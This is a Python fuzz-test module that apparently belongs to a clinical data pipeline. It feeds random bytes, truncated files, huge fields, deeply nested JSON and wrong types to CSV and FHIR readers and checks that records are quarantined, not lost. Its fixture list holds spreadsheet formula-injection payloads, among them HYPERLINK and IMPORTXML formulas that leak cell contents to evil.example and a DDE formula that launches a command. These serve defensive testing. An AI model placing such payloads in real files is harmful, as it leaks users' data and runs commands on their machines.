"""Fuzzing the CSV and FHIR readers with hostile and broken input (issue #9).

Whatever comes in - random bytes, files cut at any byte, huge fields, wrong types,
formula-injection strings, JSON nested 10,000 levels deep, bundles of odd resources - an
ingest never raises: every record is accepted, a duplicate, or quarantined with a reason
code of :class:`pipeline.reasons.Reason`, and the counts reconcile in the report, in the
``batches`` rows and in the ``quarantine`` table.

Hypothesis runs derandomized (the same examples on every run, no example database), with
few examples per test, so the whole module stays within about a minute.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context

from pipeline.config import Settings, load_settings
from pipeline.errors import ConfigError
from pipeline.export import _neutralise
from pipeline.ingest.batch import IngestReport
from pipeline.ingest.formats import KINDS, QuarantineRecord
from pipeline.reasons import Reason
from pipeline.scales import Registry, load_registry
from pipeline.store import Store
from pipeline.validate import END_REASONS, GOAL_KINDS
from tests.conftest import ingest

REASONS = {r.value for r in Reason}
PHQ9 = load_registry()["PHQ-9"]

# A failing example with a 10,000-character field has a long repr: Hypothesis warns, and
# the suite's "warnings are errors" would hide the real failure behind that warning.
pytestmark = pytest.mark.filterwarnings(
    "ignore:Generating overly large repr:hypothesis.errors.HypothesisWarning")


def fuzz(n: int) -> Any:
    """Bounded, reproducible Hypothesis settings: ``n`` examples, same ones every run."""
    return settings(max_examples=n, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture,
                                           HealthCheck.too_slow, HealthCheck.data_too_large])


# ------------------------------------------------------------------ stores and checks


@contextmanager
def fresh(base_db: Path) -> Iterator[tuple[Store, Path]]:
    """A copy of the base store and an empty input folder."""
    with tempfile.TemporaryDirectory() as d:
        root = Path(d)
        shutil.copy(base_db, root / "t.db")
        (root / "in").mkdir()
        store = Store(f"sqlite:///{root}/t.db")
        try:
            yield store, root / "in"
        finally:
            store.engine.dispose()


_ENTITY_TABLE = {"therapists": "therapists", "clients": "clients", "episodes": "episodes",
                 "plans": "goals", "administrations": "administrations"}


def ingest_and_check(paths: list[Path], store: Store, registry: Registry,
                     config: Settings | None = None) -> IngestReport:
    """Ingest (any exception fails the test) and check that nothing is lost.

    Per file and overall: records == accepted + duplicates + quarantined; every reason is
    a registry reason; the batches rows, the quarantine rows and the new rows of the
    record tables say the same as the report.
    """
    before = store.counts()
    report = ingest(paths, store, config or Settings(), registry)
    d = report.as_dict()
    assert len(d["files"]) == len(paths)
    for f in d["files"]:
        assert f["status"] in {"committed", "rejected"}
        assert f["records"] == f["accepted"] + f["duplicates"] + f["quarantined"], f
        assert sum(f["by_reason"].values()) == f["quarantined"]
        assert set(f["by_reason"]) <= REASONS
        if f["status"] == "rejected":
            assert f["error"] and f["file"] in f["error"]
            assert f["accepted"] == f["duplicates"] == 0
            assert set(f["by_reason"]) <= {"unreadable_file", "file_too_large"}
            assert f["records"] >= 1  # a rejected file still leaves a trace
    assert d["records"] == d["accepted"] + d["duplicates"] + d["quarantined"]
    if currently_in_test_context():  # what the examples reached (--hypothesis-show-statistics)
        for f in d["files"]:
            event(f"{f['status']}: {', '.join(sorted(f['by_reason'])) or 'all accepted'}")

    after = store.counts()
    assert after["batches"] - before["batches"] == len(paths)
    assert after["quarantine"] - before["quarantine"] == d["quarantined"]
    new_rows = {t: after[t] - before[t] for t in set(_ENTITY_TABLE.values())}
    for f in d["files"]:
        if f["status"] == "committed":
            table = _ENTITY_TABLE[f["kind"]]
            new_rows[table] -= f["accepted"] - f["warnings"].get("updated", 0)
    assert set(new_rows.values()) == {0}, new_rows

    b = store.read_table("batches").set_index("file")
    q = store.read_table("quarantine")
    for f in d["files"]:
        row = b.loc[f["file"]]
        assert row["status"] == f["status"]
        for col in ("records", "accepted", "duplicates", "quarantined"):
            assert row[col] == f[col]
        assert json.loads(row["by_reason"]) == f["by_reason"]
        mine = q.loc[q["file"] == f["file"]]
        assert len(mine) == f["quarantined"]
        assert mine["reason"].value_counts().to_dict() == f["by_reason"]
        assert mine["detail"].str.len().gt(0).all()
        # raw is what was read, kept as JSON (never lost, never executed)
        for raw in mine["raw"]:
            json.loads(raw)
    assert set(q["reason"]) <= REASONS
    return report


# ------------------------------------------------------------------ hostile values

#: Spreadsheet formula injection (OWASP CSV injection payloads).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")',
    "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")', "=", "+", "-", "@",
    "\t=1+1", "\r=1+1", " =1+1",
]
#: Numbers and dates in the wrong shape or type.
WRONG_TYPES = [
    "1.5", "2.0", "-1", "0", "1e3", "1e999", "-1e999", "inf", "-inf", "nan", "NaN", "null",
    "None", "true", "[]", "{}", "0x10", "99999999999999999999", "9" * 400, "١", "٣", "²",
    "１２", " 3 ", "3 4", "2025-02-30", "01/02/2025", "0001-01-01", "9999-12-31",
    "2025-02-01T10:00:00+99:99", "2025-02-01T25:61:00", "session:99999999999999999999",
    "session:٣", "session:0", "session:-1", "session:",
]


def huge(n_choices: tuple[int, ...] = (201, 301, 10_001)) -> st.SearchStrategy[str]:
    """A field longer than a store column (200), the test limit (300) or the default
    max_field_chars (10,000)."""
    return st.builds(lambda n, c: c * n, st.sampled_from(n_choices),
                     st.sampled_from(["x", "é", "𝄞", "="]))


#: Any text a hostile CSV field may hold (no NUL: a NUL in the first 64 KiB makes the
#: whole file "binary", which the random-bytes tests cover).
hostile_text = st.one_of(
    st.sampled_from(FORMULAS),
    st.sampled_from(WRONG_TYPES),
    st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=30),
    huge(),
)

ID_POOL = {
    "therapist_id": ["T1", "T2", "T3", "T4", " T3 ", ""],
    "client_id": ["C1", "C2", "C3", "C4", "c1", ""],
    "episode_id": ["E1", "E2", "E3", " E1 ", "E404", ""],
    "goal_id": ["G1", "G2", ""],
}
DATES = ["2025-01-01", "2025-02-01", "2025-03-15T10:00:00Z", "2025-02-01T10:00:00+01:00",
         "2030-01-01", "2025-02-30", ""]


def column_values(column: str, registry: Registry) -> st.SearchStrategy[str]:
    """Plausible values of a column (so some records pass), mixed with hostile ones."""
    if column in ID_POOL:
        good = st.sampled_from(ID_POOL[column])
    elif column == "measure":
        good = st.sampled_from([*registry, "PHQ9", "phq-9", ""])
    elif column in {"administered_at", "start_date", "end_date", "birth_date", "due"}:
        extra = ["session:3"] if column == "due" else []
        good = st.sampled_from([*DATES, *extra])
    elif column == "kind":
        good = st.sampled_from([*GOAL_KINDS, "bogus"])
    elif column == "end_reason":
        good = st.sampled_from([*END_REASONS, ""])
    elif column in {"target", "total", "session_number", "sustain"} or \
            column.startswith("item_"):
        good = st.sampled_from(["", "0", "1", "2", "3", "10", "27"])
    else:  # names, teams, sex, postcode, description, extra columns: free text
        good = st.sampled_from(["", "North", "Ann", "F", "AB1 2CD"])
    return st.one_of(good, good, hostile_text)


@st.composite
def csv_files(draw: st.DrawFn, kind_name: str, registry: Registry
              ) -> tuple[bytes, list[list[str]], list[str]]:
    """(file bytes, the data rows as written, header) of one CSV file of a kind."""
    kind = KINDS[kind_name]
    optional = list(kind.optional)
    if kind.item_columns:
        optional += [f"item_{i}" for i in range(1, registry.max_items + 1)]
    header = list(kind.required) + draw(st.lists(st.sampled_from(optional), unique=True,
                                                 max_size=len(optional)))
    # Unknown columns, including reserved-looking and look-alike item names.
    header += draw(st.lists(st.sampled_from(["note", "_line", "item_99", "item_²", "item_01",
                                             "=HYPERLINK(\"x\")"]),
                            unique=True, max_size=2))
    header = draw(st.permutations(header))
    rows = draw(st.lists(st.tuples(*[column_values(c, registry) for c in header]).map(list),
                         max_size=8))
    delimiter = draw(st.sampled_from([",", ";", "\t"]))
    # QUOTE_MINIMAL quotes a field holding a character of the line terminator, so a bare
    # "\r" in a field is only quoted with "\r\n" (else it would end the record).
    terminator, quoting = draw(st.sampled_from([("\r\n", csv.QUOTE_MINIMAL),
                                                ("\n", csv.QUOTE_ALL)]))
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator=terminator, quoting=quoting)
    w.writerow(header)
    w.writerows(rows)
    bom = draw(st.sampled_from([b"", b"\xef\xbb\xbf"]))
    return bom + buf.getvalue().encode("utf-8"), rows, header


def _physical_records(rows: list[list[str]]) -> int:
    """Records the reader sees: a row of one blank field is a blank line, not a record."""
    return sum(1 for r in rows if not (len(r) == 1 and r[0].strip() == ""))


# ------------------------------------------------------------------ CSV


@pytest.mark.parametrize("kind_name", list(KINDS))
@fuzz(40)
@given(data=st.data())
def test_csv_hostile_fields(kind_name: str, data: st.DataObject, base_db: Path,
                            registry: Registry) -> None:
    """Each CSV kind: wrong types, huge fields, formula strings, odd columns, any delimiter."""
    content, rows, header = data.draw(csv_files(kind_name, registry))
    with fresh(base_db) as (store, indir):
        path = indir / f"{kind_name}.csv"
        path.write_bytes(content)
        rep = ingest_and_check([path], store, registry, Settings(max_field_chars=300))
        f = rep.files[0]
        assert (f.status, f.kind) == ("committed", kind_name)
        # The reader's count is the writer's: nothing is lost, nothing invented.
        assert f.records == _physical_records(rows)


@pytest.mark.parametrize("kind_name", list(KINDS))
@fuzz(25)
@given(data=st.data())
def test_csv_truncated_at_any_byte(kind_name: str, data: st.DataObject, base_db: Path,
                                   registry: Registry) -> None:
    """A valid file of each kind cut at a random byte (mid-row, mid-quote, mid-UTF-8)."""
    content, rows, _ = data.draw(csv_files(kind_name, registry))
    cut = data.draw(st.integers(0, len(content)))
    with fresh(base_db) as (store, indir):
        path = indir / f"{kind_name}.csv"
        path.write_bytes(content[:cut])
        rep = ingest_and_check([path], store, registry, Settings(max_field_chars=300))
        f = rep.files[0]
        if f.status == "committed":
            assert f.records <= _physical_records(rows)


#: Header lines of each kind, to get random bytes past kind detection into the rows.
HEADERS = [",".join(k.required + k.optional).encode() + b"\n" for k in KINDS.values()]


@fuzz(100)
@given(prefix=st.sampled_from([b"", b"{", b"[", b"\xef\xbb\xbf", b'{"resourceType": "Bundle", ',
                               b'{"resourceType": "Observation", ', *HEADERS]),
       body=st.binary(max_size=3000))
def test_random_bytes(prefix: bytes, body: bytes, base_db: Path, registry: Registry) -> None:
    """Random bytes, alone or after a valid CSV header or a JSON opening."""
    with fresh(base_db) as (store, indir):
        path = indir / "blob.dat"
        path.write_bytes(prefix + body)
        ingest_and_check([path], store, registry)


@fuzz(50)
@given(lines=st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\x00"),
                              max_size=40) | st.sampled_from(FORMULAS),
                      min_size=1, max_size=10),
       header=st.sampled_from([h.decode() for h in HEADERS]))
def test_random_text_rows(lines: list[str], header: str, base_db: Path,
                          registry: Registry) -> None:
    """Valid UTF-8 text lines of any shape (quotes, delimiters, control characters)."""
    with fresh(base_db) as (store, indir):
        path = indir / "rows.csv"
        path.write_text(header + "\n".join(lines), encoding="utf-8")
        ingest_and_check([path], store, registry)


def test_nul_past_the_binary_sniff_is_bad_encoding(base_db: Path, registry: Registry) -> None:
    """A NUL after the first 64 KiB: that record is quarantined, the others go in."""
    head = b"therapist_id,name,team\n" + b"".join(
        b"T%d,Name %d,North\n" % (i, i) for i in range(10, 5000))
    assert len(head) > 65536
    with fresh(base_db) as (store, indir):
        path = indir / "therapists.csv"
        path.write_bytes(head + b"T9,Bad\x00Name,North\nT8,Good,North\n")
        rep = ingest_and_check([path], store, registry)
        f = rep.files[0]
        assert (f.status, f.quarantined, dict(f.by_reason)) == ("committed", 1,
                                                                {"bad_encoding": 1})
        assert f.accepted == f.records - 1


def test_formula_strings_are_stored_as_plain_text(base_db: Path, registry: Registry) -> None:
    """Formula strings go in as text, verbatim (trimmed), and are neutralised on export."""
    payloads = [p for p in FORMULAS if p.strip()]
    with fresh(base_db) as (store, indir):
        path = indir / "therapists.csv"
        with path.open("w", encoding="utf-8", newline="") as fh:
            w = csv.writer(fh, lineterminator="\r\n")  # quotes a bare "\r" in a field
            w.writerow(["therapist_id", "name", "team"])
            for i, p in enumerate(payloads):
                w.writerow([f"TF{i}", p, p])
        adm = indir / "administrations.csv"
        with adm.open("w", encoding="utf-8", newline="") as fh:
            w = csv.writer(fh, lineterminator="\r\n")
            w.writerow(["episode_id", "measure", "administered_at", "total"])
            for p in payloads:
                w.writerow(["E1", p, "2025-02-01", "3"])
        rep = ingest_and_check([path, adm], store, registry)
        t = store.read_table("therapists").set_index("therapist_id")
        for i, p in enumerate(payloads):
            assert t.loc[f"TF{i}", "name"] == p.strip()
            assert t.loc[f"TF{i}", "team"] == p.strip()
        assert rep.files[1].quarantined == len(payloads)
        q = store.read_table("quarantine")
        assert sorted(json.loads(r)["measure"] for r in q["raw"]) == sorted(payloads)
        assert set(q["reason"]) == {"unknown_measure"}
        exported = _neutralise(t.reset_index()[["name", "team"]])
        for col in ("name", "team"):
            assert not exported[col].str.match(r"^[=+\-@]").any()


@fuzz(50)
@given(cell=st.tuples(st.sampled_from("=+-@"), st.text(max_size=20)).map("".join),
       safe=st.text(max_size=20).filter(lambda s: not s.startswith(("=", "+", "-", "@"))))
def test_export_neutralises_formula_cells(cell: str, safe: str) -> None:
    """Exported text cells starting with = + - @ get a leading quote; others stay as are."""
    out = _neutralise(pd.DataFrame({"text": [cell, safe], "number": [-1.5, 2.0]}))
    assert out["text"].tolist() == ["'" + cell, safe]
    assert out["number"].tolist() == [-1.5, 2.0]


# ------------------------------------------------------------------ FHIR

_REFS = {"subject": {"reference": "Patient/C1"},
         "encounter": {"reference": "EpisodeOfCare/E1"}}
#: Valid resources (each accepted on its own): a PHQ-9 response by item linkIds, a total
#: score Observation and a panel Observation with item components.
QR: dict[str, Any] = {
    "resourceType": "QuestionnaireResponse", "status": "completed",
    "questionnaire": f"http://loinc.org/q/{PHQ9.loinc_panel}",
    "authored": "2025-02-01T10:00:00Z", **_REFS,
    "extension": [{"url": "http://example.org/session-number", "valueInteger": 1}],
    "item": [{"linkId": f"item_{i}", "answer": [{"valueInteger": 1}]} for i in range(1, 10)],
}
OBS: dict[str, Any] = {
    "resourceType": "Observation", "status": "final",
    "code": {"coding": [{"system": "http://loinc.org", "code": PHQ9.loinc_total}]},
    "effectiveDateTime": "2025-02-08T10:00:00Z", "valueInteger": 10, **_REFS,
}
PANEL: dict[str, Any] = {
    "resourceType": "Observation", "status": "final",
    "code": {"coding": [{"system": "http://loinc.org", "code": PHQ9.loinc_panel}]},
    "effectivePeriod": {"start": "2025-02-15T10:00:00Z"}, **_REFS,
    "component": [{"code": {"coding": [{"system": "http://loinc.org", "code": c}]},
                   "valueInteger": 2} for c in PHQ9.loinc_items],
}
VALID = [QR, OBS, PANEL]
OTHERS: list[Any] = [
    {"resourceType": "Patient", "id": "C1"},
    {"resourceType": "Bundle", "type": "collection", "entry": [{"resource": OBS}]},
    {"resourceType": ["Observation"]}, {"resourceType": {"x": 1}}, {"resourceType": None},
    {"resourceType": "QuestionnaireResponse"}, {}, 7, "Observation", None, [OBS],
]

#: A marker replaced by an integer literal too long for int() (5,000 digits) after
#: json.dumps, which cannot write such an int itself.
HUGE_INT = "\x01HUGE_INT\x01"


def json_values() -> st.SearchStrategy[Any]:
    """Any JSON value, with FHIR-hostile leaves (nan, inf, big ints, formula text)."""
    leaves = st.one_of(
        st.none(), st.booleans(), st.integers(), st.integers(min_value=2**63),
        st.floats(), st.text(max_size=20), st.sampled_from(FORMULAS),
        st.sampled_from(WRONG_TYPES), huge((201, 10_001)), st.just(HUGE_INT),
        st.sampled_from(["\ud800", "a\x00b", "E1\u2028", "E1\x85"]),
    )
    return st.recursive(leaves, lambda ch: st.lists(ch, max_size=3)
                        | st.dictionaries(st.text(max_size=8), ch, max_size=3),
                        max_leaves=6)


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every key/index path inside a JSON value."""
    out: list[tuple[Any, ...]] = []
    items = value.items() if isinstance(value, dict) else \
        enumerate(value) if isinstance(value, list) else []
    for k, v in items:
        out.append((*prefix, k))
        out.extend(_paths(v, (*prefix, k)))
    return out


def _replace(doc: Any, path: tuple[Any, ...], new: Any, delete: bool) -> Any:
    doc = json.loads(json.dumps(doc))
    parent = doc
    for k in path[:-1]:
        parent = parent[k]
    if delete and isinstance(parent, dict):
        del parent[path[-1]]
    else:
        parent[path[-1]] = new
    return doc


@st.composite
def mutated(draw: st.DrawFn) -> Any:
    """A valid QuestionnaireResponse or Observation with 1-3 fields given wrong values."""
    doc = draw(st.sampled_from(VALID))
    # Text that still fits a FHIR string gets past the model into validation (bad values,
    # huge fields, NUL, surrogates); any JSON value mostly stops at the model.
    values = st.one_of(json_values(), st.sampled_from([*WRONG_TYPES, *FORMULAS]),
                       huge((201, 10_001)),
                       st.sampled_from(["\ud800", "E1\x00", "E1\u2028", "²", "item_²"]))
    for _ in range(draw(st.integers(1, 3))):
        paths = _paths(doc)
        if not paths:
            break
        doc = _replace(doc, draw(st.sampled_from(paths)), draw(values), draw(st.booleans()))
    return doc


def test_raw_json_never_raises() -> None:
    """The quarantine's raw record survives nesting too deep to serialise and lone
    surrogates (kept as escapes, so a UTF-8 database can store it)."""
    deep: list[Any] = []
    for _ in range(100_000):
        deep = [deep]
    assert json.loads(QuarantineRecord.raw_json(deep)).startswith("<record too deeply")
    raw = QuarantineRecord.raw_json({"id": "E1\ud800"})
    raw.encode("utf-8")  # storable
    assert json.loads(raw) == {"id": "E1\ud800"}
    assert QuarantineRecord.raw_json({"name": "Zoë"}) == '{"name": "Zoë"}'


def nested(depth: int, leaf: Any = 1) -> str:
    """JSON nested ``depth`` levels deep, built as text (json.dumps would recurse)."""
    return "[" * depth + json.dumps(leaf) + "]" * depth


def _dump(value: Any, ascii_only: bool = True) -> str:
    """JSON text of a value; ``ascii_only=False`` writes U+2028, U+0085 ... raw (valid
    JSON) and lone surrogates raw (then the file is not UTF-8)."""
    return json.dumps(value, ensure_ascii=ascii_only).replace(json.dumps(HUGE_INT),
                                                              "9" * 5000)


resources = st.one_of(st.sampled_from(VALID), mutated(), mutated(),
                      st.sampled_from(OTHERS), json_values())


@st.composite
def fhir_files(draw: st.DrawFn) -> tuple[str, int | None]:
    """(file text, expected record count when it is knowable) of a Bundle, NDJSON or
    single resource file of mixed resources."""
    items = draw(st.lists(resources, min_size=1, max_size=8))
    shape = draw(st.sampled_from(["bundle", "ndjson", "single"]))
    ascii_only = draw(st.booleans())
    if shape == "bundle":
        # Mostly proper entries; sometimes a bare resource where an entry should be.
        entries = [{"resource": r} if draw(st.integers(0, 9)) else r for r in items]
        return _dump({"resourceType": "Bundle", "type": "collection", "entry": entries},
                     ascii_only), len(entries)
    if shape == "ndjson":
        if len(items) == 1:
            items.append(OBS)
        return "\n".join(_dump(r, ascii_only) for r in items) + "\n", len(items)
    return _dump(items[0], ascii_only), None


@fuzz(80)
@given(fhir=fhir_files())
def test_fhir_mixed_and_wrong_types(fhir: tuple[str, int | None], base_db: Path,
                                    registry: Registry) -> None:
    """Bundles, NDJSON and single resources of valid, mutated and foreign resources."""
    text, expected = fhir
    with fresh(base_db) as (store, indir):
        path = indir / "fhir.json"
        path.write_text(text, encoding="utf-8", errors="surrogatepass")
        rep = ingest_and_check([path], store, registry)
        f = rep.files[0]
        if f.status == "committed" and expected is not None:
            assert f.records == expected


def _every_field_mutants() -> list[Any]:
    wrong: list[Any] = [None, True, -1, 2**70, 1.5, float("nan"), "", "x", [], {}, [1],
                        {"a": 1}, "=HYPERLINK(\"x\")", "E" * 201, "x" * 10_001]
    return [_replace(doc, path, value, False)
            for doc in VALID for path in _paths(doc) for value in wrong] + \
        [_replace(doc, path, None, True) for doc in VALID for path in _paths(doc)]


def test_fhir_wrong_type_in_every_field(base_db: Path, registry: Registry) -> None:
    """Every field of a QuestionnaireResponse and an Observation, one by one, given a
    value of every JSON type (and deleted): one bundle, one record per mutant."""
    mutants = _every_field_mutants()
    with fresh(base_db) as (store, indir):
        path = indir / "bundle.json"
        path.write_text(json.dumps({"resourceType": "Bundle", "type": "collection",
                                    "entry": [{"resource": m} for m in mutants]}),
                        encoding="utf-8")
        rep = ingest_and_check([path], store, registry)
        f = rep.files[0]
        assert (f.status, f.records) == ("committed", len(mutants))
        # A wrong value never makes a new administration: at most the three valid
        # identities (response, total, panel) go in, all else is a duplicate or quarantined.
        assert f.accepted <= len(VALID)
        assert f.quarantined > len(mutants) // 2


@fuzz(40)
@given(data=st.data(), text=fhir_files())
def test_fhir_truncated_at_any_byte(data: st.DataObject, text: tuple[str, int | None],
                                    base_db: Path, registry: Registry) -> None:
    """A FHIR file cut at a random byte (possibly mid UTF-8 character)."""
    raw = text[0].encode("utf-8", "surrogatepass")
    cut = data.draw(st.integers(0, len(raw)))
    with fresh(base_db) as (store, indir):
        path = indir / "cut.json"
        path.write_bytes(raw[:cut])
        ingest_and_check([path], store, registry)


def _deep_resource(depth: int, where: str) -> str:
    """A QuestionnaireResponse with a value nested ``depth`` levels deep at ``where``."""
    marker = "\x02DEEP\x02"
    doc = {**QR, where: marker} if where != "answer" else \
        {**QR, "item": [{"linkId": "item_1", "answer": [{"valueString": marker}]}]}
    return json.dumps(doc).replace(json.dumps(marker), nested(depth))


@fuzz(30)
@given(depth=st.one_of(st.integers(1, 1200), st.sampled_from([10_000, 100_000])),
       where=st.sampled_from(["item", "extension", "subject", "contained", "answer"]),
       shape=st.sampled_from(["single", "bundle", "ndjson", "bare"]))
def test_fhir_deeply_nested(depth: int, where: str, shape: str, base_db: Path,
                            registry: Registry) -> None:
    """JSON nested up to 100,000 levels: json.loads raises RecursionError past ~1,000 and
    the model, the serialiser of the raw record and the reader must all survive it."""
    resource = _deep_resource(depth, where)
    text = {"single": resource,
            "bundle": '{"resourceType": "Bundle", "entry": [{"resource": ' + resource + "}]}",
            "ndjson": json.dumps(OBS) + "\n" + resource + "\n",
            "bare": nested(depth)}[shape]
    with fresh(base_db) as (store, indir):
        path = indir / "deep.json"
        path.write_text(text, encoding="utf-8")
        rep = ingest_and_check([path], store, registry)
        f = rep.files[0]
        if shape == "ndjson":  # the good line goes in whatever the deep line does
            assert (f.status, f.records, f.accepted) == ("committed", 2, 1)
        else:
            assert f.records == 1 and f.accepted == 0


def test_fhir_ten_thousand_levels(base_db: Path, registry: Registry) -> None:
    """The issue's example: 10,000 levels deep - rejected with a reason naming the depth
    problem (Python's json raises RecursionError), never a crash."""
    with fresh(base_db) as (store, indir):
        path = indir / "deep.json"
        path.write_text(_deep_resource(10_000, "item"), encoding="utf-8")
        rep = ingest_and_check([path], store, registry)
        f = rep.files[0]
        assert (f.status, dict(f.by_reason)) == ("rejected", {"unreadable_file": 1})
        assert "recursion" in (f.error or "")


@pytest.mark.parametrize(("field", "value", "reason"), [
    ("valueInteger", HUGE_INT, "unreadable_file"),          # int() digit limit: ValueError
    ("resourceType", ["Observation"], "unsupported_resource"),  # unhashable type
    ("encounter", {"reference": "EpisodeOfCare/" + "E" * 201}, "field_too_large"),
    ("encounter", {"reference": "EpisodeOfCare/E1\u0000"}, "bad_encoding"),
])
def test_fhir_single_hostile_values(field: str, value: Any, reason: str, base_db: Path,
                                    registry: Registry) -> None:
    """Values that used to crash the reader (or the store) each get their reason."""
    with fresh(base_db) as (store, indir):
        path = indir / "one.json"
        path.write_text(_dump({**OBS, field: value}), encoding="utf-8")
        rep = ingest_and_check([path], store, registry)
        assert dict(rep.files[0].by_reason) == {reason: 1}


def test_fhir_huge_resource_keeps_valid_raw_json(base_db: Path, registry: Registry) -> None:
    """The raw record of a huge quarantined resource is cut to about 20,000 characters and
    is still JSON (it was cut mid-string before)."""
    doc = {**QR, "status": "in-progress", "text": {"status": "generated",
                                                   "div": "x" * 30_000}}
    with fresh(base_db) as (store, indir):
        path = indir / "big.json"
        path.write_text(json.dumps(doc), encoding="utf-8")
        rep = ingest_and_check([path], store, registry)
        assert dict(rep.files[0].by_reason) == {"bad_value": 1}  # status in-progress
        raw = store.read_table("quarantine")["raw"].iloc[0]
        assert len(raw) < 2 * 20_000  # the kept head, escaped once more
        assert json.loads(raw).endswith("...[truncated]")


def test_fhir_superscript_link_id(base_db: Path, registry: Registry) -> None:
    """"²".isdigit() is True but int("²") raises: the item is unparseable, no crash."""
    doc = {**QR, "item": [{"linkId": "²", "answer": [{"valueInteger": 1}]}]}
    with fresh(base_db) as (store, indir):
        path = indir / "qr.json"
        path.write_text(json.dumps(doc), encoding="utf-8")
        rep = ingest_and_check([path], store, registry)
        assert dict(rep.files[0].by_reason) == {"unparseable": 1}


# ------------------------------------------------------------------ size limits


@pytest.mark.parametrize("content", [
    "therapist_id,name\n" + "".join(f"T{i},Name {i}\n" for i in range(200)),
    "\n".join(json.dumps(OBS) for _ in range(5)) + "\n",
    "\x00" * 2000,
], ids=["csv", "ndjson", "binary"])
def test_file_over_max_file_bytes(content: str, base_db: Path, registry: Registry) -> None:
    """A file over max_file_bytes is not parsed: its records are quarantined as
    file_too_large, with an error naming the file, its size, the limit and the fix."""
    with fresh(base_db) as (store, indir):
        path = indir / "big.dat"
        path.write_text(content, encoding="utf-8")
        size = path.stat().st_size
        rep = ingest_and_check([path], store, registry, Settings(max_file_bytes=1000))
        f = rep.files[0]
        assert f.status == "rejected"
        assert set(f.by_reason) == {"file_too_large"}
        err = f.error or ""
        for part in (str(path), f"{size} bytes", "1000-byte limit", "max_file_bytes"):
            assert part in err, (part, err)
        b = store.read_table("batches").set_index("file").loc[str(path)]
        assert b["status"] == "rejected" and "max_file_bytes" in b["error"]


def test_file_at_the_limit_is_read(base_db: Path, registry: Registry) -> None:
    with fresh(base_db) as (store, indir):
        path = indir / "therapists.csv"
        path.write_text("therapist_id,name\nT7,Ann\n", encoding="utf-8")
        limit = path.stat().st_size
        rep = ingest_and_check([path], store, registry, Settings(max_file_bytes=limit))
        assert (rep.files[0].status, rep.files[0].accepted) == ("committed", 1)


@pytest.mark.parametrize(("header", "row", "column", "limit_text"), [
    ("therapist_id,name,team", "T7,{big},North", "name", "200 characters"),
    ("client_id,postcode", "C7,{big}", "postcode", "20 characters"),
    ("therapist_id,name,note", "T7,Ann,{big}", "note", "300 characters"),
])
def test_field_limits_have_clear_errors(header: str, row: str, column: str,
                                        limit_text: str, base_db: Path,
                                        registry: Registry) -> None:
    """A field over max_field_chars, or over its store column's width, is quarantined
    as field_too_large naming the column and the limit."""
    with fresh(base_db) as (store, indir):
        path = indir / "f.csv"
        path.write_text(f"{header}\n{row.format(big='x' * 301)}\n", encoding="utf-8")
        rep = ingest_and_check([path], store, registry, Settings(max_field_chars=300))
        assert dict(rep.files[0].by_reason) == {"field_too_large": 1}
        detail = store.read_table("quarantine")["detail"].iloc[0]
        assert repr(column) in detail and limit_text in detail


@pytest.mark.parametrize("name", ["max_file_bytes", "max_field_chars", "chunk_rows"])
def test_limits_must_be_positive(name: str) -> None:
    with pytest.raises(ConfigError, match=name):
        load_settings(env={}, **{name: 0})



# ------------------------------------------------------------------ crashes fuzzing found
# Each of these crashed the ingest, or lost or misfiled a record, before the fixes.


def _csv(indir: Path, name: str, text: str) -> Path:
    path = indir / name
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize(("due", "target"), [
    ("session:99999999999999999999", "10"),   # Int64 overflow on the cast (crash)
    ("session:٣", "10"),                      # Arabic-Indic digit matched \d
    ("2025-06-01", "inf"), ("2025-06-01", "1e999"),  # were accepted as infinite targets
    ("2025-06-01", "nan"),
])
def test_plan_due_and_target_out_of_shape(due: str, target: str, base_db: Path,
                                          registry: Registry) -> None:
    with fresh(base_db) as (store, indir):
        path = _csv(indir, "plans.csv", "episode_id,goal_id,measure,kind,target,due\n"
                    f"E1,G1,PHQ-9,below,{target},{due}\n")
        rep = ingest_and_check([path], store, registry)
        assert dict(rep.files[0].by_reason) == {"bad_value": 1}


@pytest.mark.parametrize("value", ["١", "٣", "１", "²"])
def test_non_ascii_digits_are_bad_values(value: str, base_db: Path,
                                         registry: Registry) -> None:
    """An item answered with another script's digit is a bad value, not a missing answer
    (and a record with only such answers is not "missing_field")."""
    with fresh(base_db) as (store, indir):
        path = _csv(indir, "adm.csv", "episode_id,measure,administered_at,item_1\n"
                    f"E1,PHQ-9,2025-02-01,{value}\n")
        rep = ingest_and_check([path], store, registry)
        assert dict(rep.files[0].by_reason) == {"bad_value": 1}


def test_superscript_item_column_is_an_extra_column(base_db: Path,
                                                    registry: Registry) -> None:
    """"item_²" in a header crashed kind detection (int("²")); now it is an extra column."""
    with fresh(base_db) as (store, indir):
        path = _csv(indir, "adm.csv", "episode_id,measure,administered_at,total,item_²\n"
                    "E1,GAD-7,2025-02-01,3,1\n")
        rep = ingest_and_check([path], store, registry)
        f = rep.files[0]
        assert (f.accepted, f.extra_columns) == (1, ("item_²",))


def test_identifier_wider_than_its_column(base_db: Path, registry: Registry) -> None:
    """A 201-character episode id used to be accepted, and an administration of that
    episode then broke the scored-administration schema (ValidationError, whole ingest
    aborted). Now both records are field_too_large, naming the store column's width."""
    long_id = "E" * 201
    with fresh(base_db) as (store, indir):
        episodes = _csv(indir, "episodes.csv", "episode_id,client_id,therapist_id,start_date\n"
                        f"{long_id},C1,T1,2025-01-01\n")
        adm = _csv(indir, "adm.csv", "episode_id,measure,administered_at,total\n"
                   f"{long_id},PHQ-9,2025-02-01,3\n")
        rep = ingest_and_check([episodes, adm], store, registry)
        assert [dict(f.by_reason) for f in rep.files] == [{"field_too_large": 1},
                                                          {"field_too_large": 1}]
        details = store.read_table("quarantine")["detail"]
        assert details.str.contains("200 characters").all()


def test_line_separator_inside_a_header_name(base_db: Path, registry: Registry) -> None:
